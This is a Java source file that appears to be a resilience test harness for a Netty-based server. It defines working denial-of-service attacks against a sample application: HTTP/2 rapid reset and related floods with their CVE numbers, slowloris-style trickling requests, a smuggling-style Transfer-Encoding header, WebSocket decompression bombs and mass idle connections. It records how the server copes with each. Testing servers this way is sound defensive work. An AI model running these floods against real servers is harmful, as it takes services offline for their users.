/*
 * Copyright 2026-present the original author or authors.
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *      https://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

package io.asgi.server.netty;

import java.io.EOFException;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.SocketException;
import java.util.Arrays;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.locks.LockSupport;

/**
 * Attacks on the sample application. Each goes on for some seconds, or holds what it has
 * for as long, and tells what became of it.
 */
enum Attack {

	NONE("nobody", (address, until) -> {
		park(until);
		return "";
	}),

	RAPID_RESET("HTTP/2: rapid reset (CVE-2023-44487)", flood(Http2Flood.RAPID_RESET)),

	MADE_YOU_RESET("HTTP/2: the server is made to reset, by windows (CVE-2025-8671)",
			flood(Http2Flood.WINDOW_OVERFLOW)),

	MALFORMED_TRAILERS("HTTP/2: the server is made to reset, by trailers", flood(Http2Flood.MALFORMED_TRAILERS)),

	MALFORMED_PATHS("HTTP/2: malformed paths", flood(Http2Flood.MALFORMED_PATHS)),

	CONTINUATIONS("HTTP/2: CONTINUATION", flood(Http2Flood.SMALL_CONTINUATIONS)),

	INDEXED_FIELDS("HTTP/2: HPACK bomb", flood(Http2Flood.INDEXED_FIELDS)),

	PINGS("HTTP/2: PING", flood(Http2Flood.PINGS)),

	SETTINGS("HTTP/2: SETTINGS", flood(Http2Flood.SETTINGS_OF_WINDOWS)),

	WINDOW_UPDATES("HTTP/2: WINDOW_UPDATE", flood(Http2Flood.WINDOW_UPDATES)),

	EMPTY_DATA("HTTP/2: empty DATA", flood(Http2Flood.EMPTY_DATA)),

	STARVATION("HTTP/2: 50 connections with 100 streams each, windows closed", Attack::starve),

	PIPELINE("HTTP/1.1: 50 connections that pipeline requests and read nothing", Attack::pipeline),

	HEADS("HTTP/1.1: 2,000 heads that never end, a byte a second",
			(address, until) -> trickle(address, until, "GET /hello HTTP/1.1\r\nHost: a\r\nX-A: ", 2_000)),

	BODIES("HTTP/1.1: 2,000 bodies that never end, a byte a second",
			(address, until) -> trickle(address, until,
					"POST /echo HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n", 2_000)),

	SMUGGLING("HTTP/1.1: malformed requests, a connection each", Attack::malformed),

	BOMBS("WebSocket: decompression bombs, 16 MiB from 16 KiB", Attack::bombs),

	FRAGMENTS("WebSocket: 100 messages in fragments of one byte, and then of none", Attack::fragments),

	WEBSOCKET_PINGS("WebSocket: 50 that ping and read nothing", Attack::pingWebSockets),

	WEBSOCKET_ECHOES("WebSocket: 50 that ask for echoes and read nothing", Attack::echoWebSockets),

	IDLE_CONNECTIONS("HTTP/1.1: 10,000 idle connections", (address, until) -> {
		try (Connections connections = new Connections(address)) {
			connections.open(10_000, "GET /hello HTTP/1.1\r\nHost: a\r\n\r\n");
			int answered = connections.await(50, 60);
			park(until);
			return answered + " answered";
		}
	}),

	IDLE_WEBSOCKETS("WebSocket: 10,000 idle", (address, until) -> {
		try (Connections connections = new Connections(address)) {
			connections.open(10_000, upgrade("/shout"));
			int open = connections.await(100, 60);
			park(until);
			return open + " open";
		}
	}),

	EVENTS("Server-sent events: 5,000 streams, a tick a second", (address, until) -> {
		try (Connections connections = new Connections(address)) {
			connections.open(5_000, "GET /events HTTP/1.1\r\nHost: a\r\n\r\n");
			int open = connections.await(100, 60);
			park(until);
			return open + " open";
		}
	});

	private static final int STEPS = 50_000;

	private final String title;

	private final Action action;

	Attack(String title, Action action) {
		this.title = title;
		this.action = action;
	}

	String title() {
		return this.title;
	}

	/**
	 * Attack a server.
	 * @param until the end, as of {@link System#nanoTime()}; what takes long to set up
	 * may go on a little longer
	 * @return what became of it
	 */
	String run(InetSocketAddress address, long until) throws Exception {
		return this.action.run(address, until);
	}

	private static Action flood(Http2Flood flood) {
		return (address, until) -> {
			Map<String, Integer> ends = new TreeMap<>();
			int connections = 0;
			long steps = 0;
			while (System.nanoTime() < until) {
				try (RawFrames client = new RawFrames(address)) {
					CompletableFuture<Integer> end = CompletableFuture.supplyAsync(() -> end(client));
					steps += flood.run(client, STEPS);
					connections++;
					ends.merge(name(end.get(20, TimeUnit.SECONDS)), 1, Integer::sum);
				}
			}
			return connections + " connections closed: " + ends;
		};
	}

	private static String name(int code) {
		return switch (code) {
			case RawFrames.ENHANCE_YOUR_CALM -> "ENHANCE_YOUR_CALM";
			case RawFrames.PROTOCOL_ERROR -> "PROTOCOL_ERROR";
			case RawFrames.NO_GO_AWAY -> "GOAWAY lost to a reset";
			default -> "error " + code;
		};
	}

	private static int end(RawFrames client) {
		try {
			return client.end();
		}
		catch (IOException ex) {
			return -2;
		}
	}

	private static String starve(InetSocketAddress address, long until) throws Exception {
		RawFrames[] clients = new RawFrames[50];
		for (int i = 0; i < clients.length; i++) {
			clients[i] = new RawFrames(address);
			// No window for any response
			clients[i].frame(RawFrames.SETTINGS, 0, 0, (byte) 0, (byte) 4, (byte) 0, (byte) 0, (byte) 0, (byte) 0);
			for (int stream = 1; stream < 200; stream += 2) {
				clients[i].request(stream, 0, ":method", "POST", ":scheme", "http", ":authority", "a", ":path", "/echo")
					.frame(RawFrames.DATA, 0, stream, new byte[600]);
			}
			clients[i].flush();
		}
		park(until);
		int open = 0;
		for (RawFrames client : clients) {
			open += client.frame(RawFrames.PING, 0, 0, new byte[8]).tryFlush() ? 1 : 0;
			client.close();
		}
		return open + " connections open, their applications wait";
	}

	private static String pipeline(InetSocketAddress address, long until) throws Exception {
		try (Connections connections = new Connections(address)) {
			connections.open(50, "");
			connections.await(1, 0);
			byte[] requests = "GET /hello HTTP/1.1\r\nHost: a\r\n\r\n".repeat(2_000).getBytes();
			int sent = 0;
			while (System.nanoTime() < until) {
				sent = connections.send(requests);
				LockSupport.parkNanos(10_000_000L);
			}
			return "at the end " + sent + " of " + connections.size() + " were still read from";
		}
	}

	private static String trickle(InetSocketAddress address, long until, String first, int count) throws Exception {
		try (Connections connections = new Connections(address)) {
			connections.open(count, first);
			connections.await(Integer.MAX_VALUE, 0);
			int sent = count;
			while (System.nanoTime() < until) {
				LockSupport.parkNanos(1_000_000_000L);
				sent = connections.send("a");
			}
			return "at the end " + sent + " were open";
		}
	}

	private static String malformed(InetSocketAddress address, long until) throws Exception {
		int refused = 0;
		int connections = 0;
		while (System.nanoTime() < until) {
			try (RawHttp client = RawHttp.connect(address)) {
				client.write("POST /hello HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n");
				connections++;
				refused += client.rest().startsWith("HTTP/1.1 400") ? 1 : 0;
			}
		}
		return refused + " of " + connections + " answered with 400 and closed";
	}

	private static String bombs(InetSocketAddress address, long until) throws Exception {
		byte[] bomb = RawWebSocket.deflate(new byte[16 * 1024 * 1024]);
		Map<Integer, Integer> codes = new TreeMap<>();
		while (System.nanoTime() < until) {
			try (RawWebSocket client = new RawWebSocket(address.getPort(), "/shout", "permessage-deflate")) {
				client.send(0xC1, bomb);
				codes.merge(client.readCloseCode(), 1, Integer::sum);
			}
			catch (EOFException | SocketException ex) {
				codes.merge(1006, 1, Integer::sum);
			}
		}
		return "closed, by code: " + codes;
	}

	private static String fragments(InetSocketAddress address, long until) throws Exception {
		try (Connections connections = new Connections(address)) {
			connections.open(100, upgrade("/shout"));
			connections.await(100, 10);
			byte[] first = RawWebSocket.frame(0x02, new byte[1]);
			byte[] fragment = RawWebSocket.frame(0x00, new byte[1]);
			byte[] many = new byte[fragment.length * 150];
			for (int i = 0; i < many.length; i++) {
				many[i] = fragment[i % fragment.length];
			}
			connections.send(first);
			for (int i = 0; i < 100; i++) {
				connections.send(many);
				LockSupport.parkNanos(20_000_000L);
			}
			byte[] empty = RawWebSocket.frame(0x00, new byte[0]);
			int sent = 0;
			while (System.nanoTime() < until) {
				sent = connections.send(empty);
			}
			return sent + " open, 15,000 bytes each";
		}
	}

	private static String pingWebSockets(InetSocketAddress address, long until) throws Exception {
		return unread(address, until, RawWebSocket.frame(0x89, new byte[125]));
	}

	private static String echoWebSockets(InetSocketAddress address, long until) throws Exception {
		return unread(address, until, RawWebSocket.frame(0x81, "a".repeat(16_000).getBytes()));
	}

	private static String unread(InetSocketAddress address, long until, byte[] frame) throws Exception {
		RawWebSocket[] clients = new RawWebSocket[50];
		CompletableFuture<?>[] writers = new CompletableFuture<?>[clients.length];
		AtomicLong written = new AtomicLong();
		ExecutorService threads = Executors.newCachedThreadPool();
		for (int i = 0; i < clients.length; i++) {
			RawWebSocket client = new RawWebSocket(address.getPort(), "/shout", "");
			clients[i] = client;
			writers[i] = CompletableFuture.runAsync(() -> {
				try {
					while (true) {
						client.write(frame);
						written.addAndGet(frame.length);
					}
				}
				catch (IOException ex) {
					// Closed
				}
			}, threads);
		}
		park(until);
		long open = Arrays.stream(writers).filter((writer) -> !writer.isDone()).count();
		for (RawWebSocket client : clients) {
			client.close();
		}
		threads.shutdown();
		return open + " held back after " + written.get() / clients.length / 1024 + " KiB each";
	}

	private static String upgrade(String path) {
		return "GET " + path + " HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
				+ "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n";
	}

	private static void park(long until) {
		long left;
		while ((left = until - System.nanoTime()) > 0) {
			LockSupport.parkNanos(left);
		}
	}

	/**
	 * What an attack does.
	 */
	private interface Action {

		String run(InetSocketAddress address, long until) throws Exception;

	}

}
